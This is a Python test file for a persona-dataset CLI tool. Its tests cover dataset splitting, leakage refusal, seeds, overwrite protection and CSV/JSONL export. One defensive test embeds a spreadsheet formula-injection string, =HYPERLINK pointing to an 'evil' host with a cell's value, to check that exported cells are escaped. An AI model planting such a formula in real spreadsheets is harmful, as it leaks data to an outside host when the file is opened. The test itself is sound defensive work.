import csv
import gzip
import json
from pathlib import Path

from command import RunAloe
from hypothesis import given, settings
from hypothesis import strategies as st

from aloe.files.tables import FORMULAS, guard_formula
from aloe.memory.personas import as_lines, read_personas
from aloe.schema import Persona

NEAREST = Path(__file__).parents[2] / "golden" / "nearest.json"
CITIES = [f"Town {chr(65 + n)}" for n in range(25)]
WRITER = "scripted:aloe.agents.scripted_writer:reply"


def test_splitting(composed_pool: Path, bag_settings: Path, tmp_path: Path, aloe: RunAloe) -> None:
    out = tmp_path / "split"
    split = ("personas", "split", composed_pool, "--out", out, "--config", bag_settings, "--json")
    ran = aloe(*split, "--shares", "60,20,20")
    assert (ran.result["train"], ran.result["validation"], ran.result["test"]) == (18, 6, 6)
    parts = [read_personas(out / f"{part}.jsonl") for part in ("train", "validation", "test")]
    assert len({p.id for part in parts for p in part}) == 30
    known = tmp_path / "known.jsonl"
    known.write_text("".join(p.model_dump_json() + "\n" for p in parts[2][:2]))
    leak = aloe(*split, "--shares", "60,20,20", "--against", known)
    assert sorted(leak.result["refused"]) == sorted(p.id for p in parts[2][:2])
    assert leak.result["test"] == 4
    assert parts[2][0].id in leak.err
    for shares in ("60,40", "nan,1,1", "80,nan,10", "inf,1,1", "80,10,inf", "0,1,1", "1,-1,1"):
        assert aloe(*split, "--shares", shares).is_one_line_about("three numbers")
    assert aloe(*split, "--threshold", "0.05").is_one_line_about("raise --threshold")
    for threshold in ("0", "71", "nan"):
        for command in (split, ("personas", "check", composed_pool, "--config", bag_settings)):
            ran = aloe(*command, "--threshold", threshold)
            assert ran.is_one_line_about("threshold", "above 0 and up to 1")


def test_a_split_is_drawn_by_the_seed_of_the_file_and_flags_win(
    composed_pool: Path, bag_settings: Path, tmp_path: Path, aloe: RunAloe
) -> None:
    file = tmp_path / "seeded.toml"
    file.write_text(f"seed = 5\n{bag_settings.read_text()}")

    def test_part(name: str, *arguments: object) -> bytes:
        split = (
            "personas",
            "split",
            composed_pool,
            "--shares",
            "60,20,20",
            "--out",
            tmp_path / name,
        )
        assert aloe(*split, *arguments).code == 0
        return (tmp_path / name / "test.jsonl").read_bytes()

    five = test_part("five", "--config", bag_settings, "--seed", 5)
    zero = test_part("zero", "--config", bag_settings)
    assert test_part("file", "--config", file) == five != zero
    assert test_part("flag", "--config", file, "--seed", 0) == zero


def test_nothing_that_is_read_or_grows_is_written_over(
    composed_pool: Path, personas_file: Path, tmp_path: Path, aloe: RunAloe
) -> None:
    (tmp_path / "link.jsonl").symlink_to(composed_pool)
    parts = tmp_path / "parts"
    parts.mkdir()
    train = parts / "train.jsonl"
    train.write_bytes(personas_file.read_bytes())
    own, pool = "is also the input", "is a pool of personas"
    cases: list[tuple[tuple[object, ...], Path, str]] = [
        (("export", composed_pool), composed_pool, own),
        (("export", composed_pool), tmp_path / "link.jsonl", own),
        (("export", personas_file), personas_file, own),
        (("export", personas_file), composed_pool, pool),
        (("export", personas_file), tmp_path / "link.jsonl", pool),
        (("verifiable",), composed_pool, pool),
        (("split", train), parts, own),
        (("split", composed_pool, "--against", train), parts, own),
    ]
    before = {path: path.read_bytes() for path in (composed_pool, personas_file, train)}
    for command, out, said in cases:
        ran = aloe("personas", *command, "--out", out)
        assert ran.is_one_line_about("--out", said, "name another file")
    train.write_text('{"prompt": "a", "completion": "b"}\n')
    ran = aloe("personas", "split", composed_pool, "--out", parts)
    assert ran.is_one_line_about("train.jsonl:1: this is a training row", "name another")
    del before[train]
    assert {path: path.read_bytes() for path in before} == before
    assert aloe("trees", "merge", tmp_path, "--out", composed_pool).is_one_line_about(pool)


def test_what_the_same_command_wrote_is_written_anew(
    composed_pool: Path, bag_settings: Path, tmp_path: Path, aloe: RunAloe
) -> None:
    """Beside a pool, its packed copy is no pool."""
    for out in (tmp_path / "few.jsonl", composed_pool.with_name(f"{composed_pool.name}.gz")):
        for count in (3, 2):
            assert (
                aloe("personas", "export", composed_pool, "--count", count, "--out", out).code == 0
            )
            assert len(read_personas(out)) == count
    out = tmp_path / "parts"
    split = ("personas", "split", composed_pool, "--out", out, "--config", bag_settings)
    assert [aloe(*split, "--shares", shares).code for shares in ("60,20,20", "80,10,10")] == [0, 0]


def test_a_table_keeps_the_wishes(tmp_path: Path, bag_settings: Path, aloe: RunAloe) -> None:
    file, table, back = (tmp_path / name for name in ("v.jsonl", "v.csv", "back.jsonl"))
    assert aloe("personas", "verifiable", "--count", 3, "--out", file).code == 0
    file.write_text(file.read_text() + as_lines([Persona.of("I am 30. I dive.", "I shout.")]))
    assert aloe("personas", "export", file, "--out", table).code == 0
    header, *rows = csv.reader(table.read_text().splitlines())
    assert header[-1] == "preferences"
    assert json.loads(rows[0][-1]) == read_personas(file)[0].preferences
    imported = ("personas", "import", table, "--keep-near", "--config", bag_settings, "--out")
    assert aloe(*imported, back).code == 0
    read = [(p.profile, p.personality, p.preferences) for p in read_personas(back)]
    assert read == [(p.profile, p.personality, p.preferences) for p in read_personas(file)]
    for broken in ('{"emoji": "purple"}', '["emoji"]', '{"emoji": 3}', '{"emoji'):
        text = broken.replace('"', '""')
        table.write_text(f'profile,personality,preferences\nI bake.,I shout.,"{text}"\n')
        assert aloe(*imported, tmp_path / "none.jsonl").is_one_line_about("v.csv:2", "preferences")


def test_the_ending_tells_the_format_and_must_not_be_that_of_another(
    personas_file: Path, tmp_path: Path, aloe: RunAloe
) -> None:
    export = ("personas", "export", personas_file, "--out")
    for name in ("a.csv", "a.CSV", "a.csv.gz"):
        assert aloe(*export, tmp_path / name).code == 0
        held = (tmp_path / name).read_bytes()
        text = gzip.decompress(held) if name.endswith("gz") else held
        assert text.startswith(b"id,profile,personality")
    assert aloe(*export, tmp_path / "a.txt", "--format", "csv").code == 0
    assert aloe(*export, tmp_path / "a").code == 0
    there = sorted(tmp_path.iterdir())
    for command, name, better in (
        (
            (*export, tmp_path / "b.jsonl", "--format", "csv"),
            "b.jsonl",
            "a table; name it FILE.csv",
        ),
        ((*export, tmp_path / "b.jsonl.gz", "--format", "csv"), "b.jsonl.gz", "FILE.csv"),
        ((*export, tmp_path / "b.csv", "--format", "jsonl"), "b.csv", "FILE.jsonl"),
        ((*export, tmp_path / "b.csv", "--format", "hub"), "b.csv", "FILE.jsonl"),
        ((*export, tmp_path / "b.parquet"), "b.parquet", "FILE.jsonl"),
        (("personas", "verifiable", "--out", tmp_path / "b.csv"), "b.csv", "FILE.jsonl"),
    ):
        assert aloe(*command).is_one_line_about(name, "would hold", better)
    assert sorted(tmp_path.iterdir()) == there


def test_exporting(composed_pool: Path, tmp_path: Path, aloe: RunAloe) -> None:
    people = read_personas(composed_pool)
    export = ("personas", "export", composed_pool, "--json", "--out")
    assert aloe(*export, tmp_path / "all.jsonl.gz").result["personas"] == 30
    assert read_personas(tmp_path / "all.jsonl.gz") == people
    assert b'"facts"' not in gzip.decompress((tmp_path / "all.jsonl.gz").read_bytes())
    aloe(*export, tmp_path / "few.jsonl", "--count", 4, "--seed", 3)
    few = read_personas(tmp_path / "few.jsonl")
    assert len(few) == 4
    assert all(each in people for each in few)
    aloe(*export, tmp_path / "all.csv", "--format", "csv")
    assert (tmp_path / "all.csv").read_text().startswith("id,profile,personality,age,")
    aloe(*export, tmp_path / "hub.jsonl", "--format", "hub")
    first = json.loads((tmp_path / "hub.jsonl").read_text().splitlines()[0])
    assert first == {"persona": f"{people[0].profile} {people[0].personality}"}
    (tmp_path / "file").write_text("")
    ran = aloe(*export, tmp_path / "file" / "x.jsonl")
    assert ran.is_one_line_about("cannot be written")


@settings(max_examples=50)
@given(st.text(alphabet=[*FORMULAS, *"\t '|a1"], max_size=6))
def test_no_cell_of_a_table_begins_as_a_formula(text: str) -> None:
    cell = guard_formula(text)
    assert cell in (text, f"'{text}")
    assert not cell.strip() or cell.strip()[0] not in FORMULAS


def test_a_formula_in_a_persona_is_guarded_and_that_is_said(tmp_path: Path, aloe: RunAloe) -> None:
    command = '=HYPERLINK("http://evil/?"&A1)'
    pool = tmp_path / "pool.jsonl"
    odd = Persona.of(f"{command} I dive.", "- I shout.", id="=1+1")
    pool.write_text(as_lines([odd]))
    export = ("personas", "export", pool, "--format", "csv", "--out")
    ran = aloe(*export, tmp_path / "p.csv")
    assert "put a ' before 3 texts" in ran.err
    (row,) = csv.DictReader((tmp_path / "p.csv").read_text().splitlines())
    assert row["id"] == "'=1+1"
    assert row["profile"] == f"'{command} I dive."
    assert row["personality"] == "'- I shout."
    assert aloe(*export, tmp_path / "raw.csv", "--raw").err == ""
    (row,) = csv.DictReader((tmp_path / "raw.csv").read_text().splitlines())
    assert row["personality"] == "- I shout."


def test_the_shipped_pool_is_there_without_a_file(tmp_path: Path, aloe: RunAloe) -> None:
    ran = aloe("personas", "export", "--count", 7, "--out", tmp_path / "p.jsonl", "--json")
    assert ran.result["personas"] == 7
    assert len(read_personas(tmp_path / "p.jsonl")) == 7


def test_more_than_there_are_is_refused(tmp_path: Path, aloe: RunAloe, personas_file: Path) -> None:
    out = tmp_path / "p.jsonl"
    ran = aloe("personas", "export", personas_file, "--count", 9, "--out", out)
    assert ran.is_one_line_about("--count 9", f"{personas_file} holds 4 personas", "personas grow")
    assert not out.exists()
    assert aloe("personas", "export", personas_file, "--count", 4, "--out", out).code == 0
    assert len(out.read_text().splitlines()) == 4
